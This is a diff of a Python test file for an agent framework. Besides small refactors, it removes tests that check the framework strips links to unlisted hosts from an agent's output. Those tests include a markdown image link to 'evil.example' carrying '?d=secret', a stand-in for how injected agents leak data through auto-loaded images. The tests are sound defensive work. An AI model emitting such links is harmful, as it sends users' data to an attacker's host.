@@ -14,7 +14,7 @@ from leverframe.domain.json import Json, JsonObject
 from leverframe.domain.labels import Integrity
 from leverframe.domain.runs import RunOutcome, StepKind
 from leverframe.runtime.meaning import spoken
-from leverframe.runtime.outcomes import Answered, Failed, HeldBack
+from leverframe.runtime.outcomes import Answered, Failed, HeldBack, ToolOutcome
 from leverframe.runtime.outside import OutsideRun
 from leverframe.runtime.plans import seen_by_planner
 from leverframe.runtime.why import why
@@ -36,8 +36,8 @@ def desk_of(folder: Path, contract: str = CONTRACT, note: str = HIDDEN_NOTE) -> 
         yield desk
 
 
+# Any: JSON of the shape that the test knows.
 def shown(outcome: object) -> Any:
-    # Any: JSON of the shape that the test knows.
     assert isinstance(outcome, Answered), outcome
     return outcome.shown
 
@@ -326,8 +326,7 @@ WISH = '{"type": "object", "properties": {"order_id": {"type": "string"}, "act":
 EXTRACTING = AGENT_CONTRACT + "context: {untrusted: hide, extract: {wish: schemas/wish.json}}\n"
 
 
-def extract(desk: Desk, run: OutsideRun) -> Any:
-    # Any: the answer of the test's own schema.
+def extract(desk: Desk, run: OutsideRun) -> ToolOutcome:
     note = shown(desk.call(run, "look_up", {"order_id": "W00002"}))["note"]
     return desk.call(run, "extract_wish", {"of": note})
 
@@ -368,6 +367,7 @@ def test_an_extraction_is_read_from_the_journal_and_not_paid_twice(tmp_path: Pat
     )
     with playing(tmp_path, *lines, contract=EXTRACTING, files={"schemas/wish.json": WISH}) as (desk, model):
         done = ended(desk.start(message="look"))
+        # Any: the body of a request.
         offered: Any = model.requests[0]["tools"]
 
         assert done.run.outcome is RunOutcome.SUCCESS
@@ -389,34 +389,3 @@ def test_a_context_that_nothing_would_keep_is_an_error(tmp_path: Path, context: 
 
     with pytest.raises(ConfigInvalid, match=says):
         load_project(tmp_path)
-
-
-# The output.
-
-
-@pytest.mark.parametrize(
-    ("hosts", "said_", "output", "removed"),
-    [
-        ("[]", "See ![x](https://evil.example/?d=secret) and [it](https://example.com/a).", "See x and it.", 60),
-        ("[example.com]", "See [it](https://shop.example.com/a).", "See [it](https://shop.example.com/a).", 0),
-        ("[]", "data:text/html,x and https://plain.example", " and https://plain.example", 16),
-    ],
-)
-def test_an_output_links_to_listed_hosts_alone(
-    tmp_path: Path, hosts: str, said_: str, output: str, removed: int
-) -> None:
-    contract = AGENT_CONTRACT + f"context: {{link_hosts: {hosts}}}\n"
-    with playing(tmp_path, say(said_), contract=contract) as (desk, _):
-        done = ended(desk.start(message="hello"))
-
-        detail = desk.leaves(done.run.run_id, "run.ended")[0]["detail"]
-        assert done.output == output
-        assert sum(int(one.partition("=")[2]) for one in detail.get("removed", ())) == removed
-
-
-def test_a_typed_output_is_cleaned_in_each_of_its_texts(tmp_path: Path) -> None:
-    typed = AGENT_CONTRACT + "output: {type: object, required: [say], properties: {say: {type: string}}}\n"
-    with playing(tmp_path, say('{"say": "go [there](https://evil.example)", "n": 1}'), contract=typed) as (desk, _):
-        done = ended(desk.start(message="hello"))
-
-        assert done.output == {"say": "go there", "n": 1}
